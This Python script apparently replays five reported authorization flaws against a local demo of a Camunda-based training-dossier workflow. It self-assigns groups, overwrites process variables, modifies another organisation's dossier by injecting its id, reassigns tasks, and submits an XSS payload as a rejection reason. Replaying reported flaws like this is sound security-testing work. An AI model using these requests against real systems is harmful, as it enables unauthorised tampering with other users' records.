"""Replays issue 21's five exploits against a running demo on localhost:8080 (loopback only)."""
import base64, json, sys, urllib.request, urllib.error
BASE = "http://localhost:8080"
def call(user, method, path, body=None):
    req = urllib.request.Request(BASE + path, method=method, data=None if body is None else json.dumps(body).encode())
    req.add_header("Authorization", "Basic " + base64.b64encode(f"{user}:formaflow".encode()).decode())
    req.add_header("Content-Type", "application/json")
    try:
        with urllib.request.urlopen(req) as r:
            text = r.read().decode(); return r.status, (json.loads(text) if text.strip() else None)
    except urllib.error.HTTPError as e:
        text = e.read().decode()
        try: return e.code, json.loads(text)
        except Exception: return e.code, text
def show(label, result): print(f"{label}: {result[0]} {json.dumps(result[1], ensure_ascii=False)[:220] if result[1] is not None else ''}")
def task_of(user, pid, key):
    s, tasks = call(user, "GET", f"/engine-rest/task?processInstanceBusinessKey={pid}&taskDefinitionKey={key}")
    return tasks[0] if tasks else None
V = lambda v, t="String": {"value": v, "type": t}

# 1. self-approval
s, d = call("marie.durand", "POST", "/api/dossiers", {"funderCode": "OCCITANIE", "title": "Rejeu issue 21", "programmingYear": 2026})
print("dossier créé", s, d.get("contractNumber") if isinstance(d, dict) else d)
key = d["contractNumber"]
t = task_of("marie.durand", key, "Task_SubmitDossier")
show("1. PUT variables/funderGroup (marie)", call("marie.durand", "PUT", f"/engine-rest/task/{t['id']}/variables/funderGroup", V("org_scenes_formations")))
# 2. rules
show("2. PUT variables/rules (marie)", call("marie.durand", "PUT", f"/engine-rest/task/{t['id']}/variables/rules", V('{"requiredDocuments":[]}')))
# 3. extra dossierId in submit-form
others = call("julien.morel", "GET", "/api/dossiers")[1]
foreign = others[0]["id"] if others else 1
show("3. submit-form + dossierId étranger (marie)", call("marie.durand", "POST", f"/engine-rest/task/{t['id']}/submit-form",
     {"variables": {"dossierId": V(foreign, "Long"), "title": V("Piratage")}}))
print("   titre du dossier étranger :", call("julien.morel", "GET", f"/api/dossiers/{foreign}")[1].get("title"))
# 5. identity links, assignee, profile
show("5. POST identity-links (marie)", call("marie.durand", "POST", f"/engine-rest/task/{t['id']}/identity-links", {"groupId": "org_cfa_sante", "type": "candidate"}))
show("   POST assignee (marie)", call("marie.durand", "POST", f"/engine-rest/task/{t['id']}/assignee", {"userId": "sophie.martin"}))
show("   PUT user/profile (marie)", call("marie.durand", "PUT", "/engine-rest/user/marie.durand/profile",
     {"id": "marie.durand", "firstName": "Marie", "lastName": "Durand", "email": "pirate@example.org"}))
# submit her dossier properly, then: who validates?
prog = {"title": "Rejeu issue 21", "objectives": "Objectifs", "content": "Programme", "formacode": "45054", "nature": "ACTION_DE_FORMATION",
        "collective": "true", "hoursCentre": 140, "hoursCompany": 0, "plannedStart": "2027-01-04", "plannedEnd": "2027-02-26",
        "location": "Montpellier", "totalTrainees": 2, "paidTrainees": 2, "priceCentreEuros": "1960,00", "priceCompanyEuros": "0,00",
        "unitCostCentreEuros": "7,00", "unitCostCompanyEuros": "0,00"}
vars_ = {k: V(v, "Integer" if isinstance(v, int) else "String") for k, v in prog.items()}
vars_["periods"] = V('[{"place":"CENTRE","start":"2027-01-04","end":"2027-02-26"}]', "Json")
vars_["trainers"] = V('[{"lastName":"Rocher","firstName":"Yves","domain":"Accessoires","status":"CDD","hours":140,"experience":"12 ans"}]', "Json")
vars_["clients"] = V('[{"name":"Théâtre des Treize Vents","siret":"77566820500013","address":"Domaine de Grammont, 34000 Montpellier","email":"formation@13vents.fr"}]', "Json"); vars_["subcontractors"] = V('[]', "Json")
show("   dépôt normal (marie)", call("marie.durand", "POST", f"/engine-rest/task/{t['id']}/submit-form", {"variables": vars_}))
v = task_of("claire.fabre", key, "CallActivity_ValidateSubmission")
print("   « Valider le dossier » visible par claire.fabre (Région) :", v is not None, "; par marie :", task_of("marie.durand", key, "CallActivity_ValidateSubmission") is not None)
if v:
    show("   marie tente de valider elle-même", call("marie.durand", "POST", f"/engine-rest/task/{v['id']}/submit-form", {"variables": {"decision": V("APPROVE")}}))
# 4. funder writes dossierId on its own task, then form-variables
jt = call("julien.morel", "GET", "/engine-rest/task?candidateUser=julien.morel&processDefinitionKey=trainingDossier&maxResults=1")[1]
if not jt:
    # on a fresh demo the OPCO validator has nothing to validate yet: the CFA submits its dossier first
    mine = call("sophie.martin", "GET", "/api/dossiers")[1][0]
    st = task_of("sophie.martin", mine["contractNumber"], "Task_SubmitDossier")
    show("   dépôt du dossier OPCO (sophie.martin)", call("sophie.martin", "POST", f"/engine-rest/task/{st['id']}/submit-form", {"variables": vars_}))
    jt = call("julien.morel", "GET", "/engine-rest/task?candidateUser=julien.morel&processDefinitionKey=trainingDossier&maxResults=1")[1]
if jt:
    j = jt[0]
    show("4. PUT variables/dossierId (julien, sa tâche)", call("julien.morel", "PUT", f"/engine-rest/task/{j['id']}/variables/dossierId", V(1, "Long")))
    show("   submit-form REJECT + dossierId (julien)", call("julien.morel", "POST", f"/engine-rest/task/{j['id']}/submit-form",
         {"variables": {"dossierId": V(1, "Long"), "decision": V("REJECT"), "reason": V("<img src=x onerror=alert(1)>")}}))
    fv = call("julien.morel", "GET", f"/engine-rest/task/{j['id']}/form-variables")[1]
    print("   form-variables : résumé de", (fv.get("summary", {}).get("value") or "")[:80].replace("\n", " | "), "; tâche du dossier", j.get("processInstanceId"))
